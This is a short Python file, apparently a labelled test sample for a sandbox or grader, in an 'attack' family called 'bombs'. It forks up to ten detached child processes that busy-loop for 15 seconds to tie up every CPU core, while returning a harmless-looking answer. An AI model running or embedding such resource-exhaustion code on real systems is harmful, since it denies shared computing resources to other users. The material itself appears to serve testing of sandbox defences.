# /// attack
# title = "Keeps every core busy with all the processes it may have"
# family = "bombs"
# ///
# ruff: noqa

# %% work_number
import os, time

answer = 1.0
for _ in range(10):
    try:
        if os.fork() == 0:
            os.setsid()
            end = time.monotonic() + 15
            while time.monotonic() < end:
                pass
            os._exit(0)
    except OSError:
        break
